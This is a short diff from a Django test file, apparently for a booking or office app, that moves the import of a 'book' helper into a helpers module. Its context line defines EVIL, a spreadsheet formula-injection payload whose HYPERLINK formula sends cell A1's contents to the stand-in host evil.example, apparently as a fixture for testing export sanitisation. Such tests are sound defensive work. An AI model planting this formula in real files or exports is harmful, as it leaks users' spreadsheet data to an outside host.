@@ -7,7 +7,7 @@ import time_machine
 from django.urls import reverse
 
 from .conftest import MONDAY, at
-from .test_office import book
+from .helpers import book
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Termin")'
 
